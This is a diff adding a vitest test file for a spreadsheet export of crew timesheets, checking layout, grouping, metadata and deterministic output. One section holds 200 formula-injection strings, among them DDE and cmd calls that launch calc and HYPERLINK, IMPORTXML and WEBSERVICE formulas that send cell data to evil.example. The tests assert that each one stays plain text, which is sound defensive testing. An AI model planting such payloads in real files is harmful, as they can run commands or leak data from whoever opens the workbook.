@@ -1,0 +1,257 @@
+import { createHash } from 'node:crypto'
+import { beforeAll, describe, expect, test } from 'vitest'
+import {
+  crewRows,
+  layoutOf,
+  type SheetRowOfDay,
+  sheetColumns,
+  sheetOrigin,
+  sheetQuestion,
+  workbookBytes,
+} from '../testing/sheetFixture.js'
+import { parseXml, type ReadSheet, readWorkbook } from '../testing/workbookReader.js'
+
+const groups = [
+  { columnId: 'foreman', order: 'asc' },
+  { columnId: 'date', order: 'desc' },
+] as const
+
+async function read(...question: Parameters<typeof sheetQuestion>) {
+  const workbook = readWorkbook(await workbookBytes(sheetQuestion(...question)))
+  const [sheet, about] = workbook.sheets
+  return { ...workbook, sheet: sheet as ReadSheet, about: about as ReadSheet }
+}
+
+const [sample] = crewRows(1) as [SheetRowOfDay]
+
+describe('a workbook, read by somebody else', () => {
+  test('has well-formed parts, each named once and each listed', async () => {
+    const { files } = await read(crewRows(20), { groups })
+    for (const content of Object.values(files)) expect(() => parseXml(content)).not.toThrow()
+    expect(Object.keys(files).toSorted()).toEqual([
+      '[Content_Types].xml',
+      '_rels/.rels',
+      'docProps/app.xml',
+      'docProps/core.xml',
+      'xl/_rels/workbook.xml.rels',
+      'xl/sharedStrings.xml',
+      'xl/styles.xml',
+      'xl/theme/theme1.xml',
+      'xl/workbook.xml',
+      'xl/worksheets/_rels/sheet1.xml.rels',
+      'xl/worksheets/sheet1.xml',
+      'xl/worksheets/sheet2.xml',
+    ])
+  })
+
+  test('has a header that stays, a filter on it, widths, and the values with their formats', async () => {
+    const row = { ...sample, employee: 'Ana', date: '2026-06-15', start: '07:30:00', worked: 27_000_000, hours: 7.5 }
+    const { sheet } = await read([{ ...row, foreman: 'Díaz', status: 'out', miles: 1.5, map: null, note: null }])
+    expect(sheet.name).toBe('2026-06-15')
+    expect(sheet.frozen).toEqual({ columns: 0, rows: 1 })
+    expect(sheet.autoFilter).toBe('A1:J2')
+    expect(sheet.widths).toHaveLength(10)
+    expect(sheet.rows[0]?.cells.F).toMatchObject({ value: 'Worked duration', format: '@' })
+    const cells = Object.entries(sheet.rows[1]?.cells ?? {}).map(([name, { value, format }]) => [name, value, format])
+    expect(cells).toEqual([
+      ['A', 46_188, 'mm-dd-yy'],
+      ['B', 'Ana', '@'],
+      ['C', 'Díaz', '@'],
+      ['D', 'Clocked Out', '@'],
+      ['E', 0.3125, 'h:mm AM/PM'],
+      ['F', 0.3125, '[h]:mm'],
+      ['G', 7.5, '0.00'],
+      ['H', 1.5, 'General'],
+    ])
+    expect(sheet.rows[2]?.cells.G).toMatchObject({ formula: 'SUBTOTAL(9,G2:G2)', value: 7.5, format: '0.00' })
+  })
+
+  test('has groups as outline levels with a footer each, and no row collapsed that is open', async () => {
+    const { sheet } = await read(crewRows(40), { groups })
+    expect(sheet.outlineDepth).toBe(2)
+    expect(sheet.summaryBelow).toBe(true)
+    expect(new Set(sheet.rows.map(({ outlineLevel }) => outlineLevel))).toEqual(new Set([0, 1, 2]))
+    expect(sheet.rows.some(({ isHidden, isCollapsed }) => isHidden || isCollapsed)).toBe(false)
+    expect(sheet.rows.map(({ number }) => number)).toEqual(sheet.rows.map((_, index) => index + 1))
+  })
+
+  test('has closed groups closed, what stays in sight marked', async () => {
+    const { sheet } = await read(crewRows(40), { groups: groups.slice(0, 1) }, { expandedOnly: new Set<string>() })
+    const inSight = sheet.rows.filter(({ isHidden }) => !isHidden)
+    expect(inSight.length).toBe(1 + 2 * inSight.filter(({ isCollapsed }) => isCollapsed).length + 1)
+    expect(sheet.rows.filter(({ isHidden }) => isHidden).every(({ outlineLevel }) => outlineLevel === 1)).toBe(true)
+  })
+
+  test('has nine groups, of which Excel takes seven as levels', async () => {
+    const columnIds = sheetColumns.map(({ id }) => id).slice(0, 9)
+    const { sheet } = await read([sample], { groups: columnIds.map(columnId => ({ columnId, order: 'asc' })) })
+    expect(sheet.outlineDepth).toBe(7)
+    expect(Math.max(...sheet.rows.map(({ outlineLevel }) => outlineLevel))).toBe(7)
+  })
+
+  test('has links that open', async () => {
+    const address = 'https://www.google.com/maps/search/?api=1&query=1,-2'
+    const { sheet } = await read([{ ...sample, map: address }])
+    expect(sheet.rows[1]?.cells.I).toMatchObject({ value: address, link: address })
+  })
+
+  test('is mirrored for people who read from the right', async () => {
+    expect((await read([sample], {}, { isRightToLeft: true })).sheet.isRightToLeft).toBe(true)
+  })
+
+  test('keeps pinned columns in sight', async () => {
+    const columns = layoutOf().columns.map(column =>
+      column.id === 'note' ? { ...column, pin: 'left' as const } : column,
+    )
+    const { sheet } = await read([sample], { columns })
+    expect(sheet.frozen).toEqual({ columns: 1, rows: 1 })
+    expect(sheet.rows[0]?.cells.A?.value).toBe('Note')
+  })
+
+  test('says on a second sheet where the numbers come from', async () => {
+    const { about } = await read(crewRows(5), {
+      groups: groups.slice(0, 1),
+      sorts: [{ columnId: 'hours', order: 'desc' }],
+      filters: [
+        { columnId: 'date', operation: 'between', values: ['2026-06-01', '2026-06-30'] },
+        { columnId: 'status', operation: 'anyOf', values: ['out', 'in', ''] },
+      ],
+    })
+    expect(about.name).toBe('About')
+    expect(about.rows.map(({ cells }) => [cells.A?.value, cells.B?.value])).toEqual([
+      ['Report', 'Detail Report'],
+      ['From', 46_174],
+      ['To', 46_188],
+      ['Filter', 'Date is between 2026-06-01 and 2026-06-30'],
+      ['Filter', 'Last known event is Clocked Out, in, or (Blank)'],
+      ['Grouped by', 'Foreman, ascending'],
+      ['Sorted by', 'Hours, descending'],
+      ['Template', 'Sandbox'],
+      ['Business unit', 'North'],
+      ['Rows', 5],
+      ['Made at (UTC)', 46_188 + (18 * 60 + 4) / 1440],
+      ['Made by', 'Ana Alvarez'],
+      ['Data', 'Complete'],
+      ['Durations', expect.stringContaining('add up to the totals')],
+    ])
+  })
+
+  test('says that data is missing, and what did not fit', async () => {
+    const question = sheetQuestion([{ ...sample, note: '😀'.repeat(20_000) }])
+    const { sheets } = readWorkbook(await workbookBytes(question, { ...sheetOrigin, isComplete: false }))
+    const told = sheets[1]?.rows.map(({ cells }) => cells.B?.value)
+    expect(told).toContain('Incomplete: some data could not be loaded')
+    expect(told).toContain('1 text was cut: a cell holds 32,767 characters.')
+    const note = String(sheets[0]?.rows[1]?.cells.J?.value)
+    expect(note.length).toBeLessThanOrEqual(32_767)
+    expect(note.endsWith('😀…')).toBe(true)
+  })
+
+  test('without rows is a header', async () => {
+    const { sheet } = await read([])
+    expect(sheet.rows).toHaveLength(1)
+    expect(sheet.autoFilter).toBe('A1:J1')
+  })
+})
+
+describe('no text becomes a formula', () => {
+  const starts = [
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    ' =',
+    '＝',
+    "'=",
+    '"=',
+    '|',
+    '%',
+    ';=',
+    ',=',
+    '\u0000=',
+    '=\u0001',
+    '_x003D_',
+    '<f>',
+    '&#61;',
+  ]
+  const rests = [
+    '1+1',
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("https://evil.example/?"&A1,"open")',
+    'SUM(A1:A9)*(1+2)',
+    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    'DDE("cmd","/C calc","x")',
+    'WEBSERVICE("https://evil.example")',
+    '</v></c><c><f>1+1</f></c>',
+    ']]><!--',
+    'SUBTOTAL(9,A1:A9)',
+  ]
+  const injections = starts.flatMap(start => rests.map(rest => start + rest))
+
+  test('of 200, in every column of text, in headers of groups and in the second sheet', async () => {
+    expect(injections).toHaveLength(200)
+    const rows = injections.map(
+      (text, index): SheetRowOfDay => ({
+        ...sample,
+        id: String(index),
+        employee: text,
+        foreman: text,
+        status: text,
+        date: text,
+        start: text,
+        map: text,
+        note: text,
+      }),
+    )
+    const { sheet, about, files } = await read(rows, {
+      groups: [{ columnId: 'foreman', order: 'asc' }],
+      filters: [{ columnId: 'note', operation: 'notEquals', values: ['=1+1+1'] }],
+    })
+    const formulas = [...sheet.rows, ...about.rows].flatMap(({ cells }) =>
+      Object.values(cells).flatMap(({ formula }) => formula ?? []),
+    )
+    expect(formulas.length).toBeGreaterThan(200)
+    const own =
+      /^(SUBTOTAL\([2-9],[A-Z]+\d+:[A-Z]+\d+\)(-[\d.]+)?|ROUND\(ROUND\(SUBTOTAL\(9,F\d+:F\d+\)\*1440(-[\d.]+)?,5\),0\)\/1440)$/
+    expect(formulas.filter(formula => !own.test(formula))).toEqual([])
+    const xml = files['xl/worksheets/sheet1.xml'] ?? ''
+    expect(xml).not.toMatch(/t="(?:str|inlineStr)"/)
+    expect(xml.match(/<f>/g)).toHaveLength(formulas.length)
+  })
+
+  test.each(injections)('%j stays the text that it is', async text => {
+    const { sheet } = await read([{ ...sample, note: text }])
+    const held = text.trim().replaceAll('\u0000', '').replaceAll('\u0001', '').replaceAll('\r', '\n')
+    expect(sheet.rows[1]?.cells.J).toMatchObject({ value: held, formula: null, format: '@' })
+  })
+})
+
+describe('the same bytes', () => {
+  const hashOf = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
+  let here = ''
+  beforeAll(async () => {
+    here = hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))
+  })
+
+  test('for the same question', async () => {
+    expect(hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))).toBe(here)
+  })
+
+  test.each(['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'America/Chicago', 'Asia/Kabul', 'Africa/Casablanca', 'UTC'])(
+    'in %s',
+    async timeZone => {
+      const before = process.env.TZ
+      process.env.TZ = timeZone
+      try {
+        expect(Intl.DateTimeFormat().resolvedOptions().timeZone).toBe(timeZone)
+        expect(hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))).toBe(here)
+      } finally {
+        if (before === undefined) delete process.env.TZ
+        else process.env.TZ = before
+      }
+    },
+  )
+})
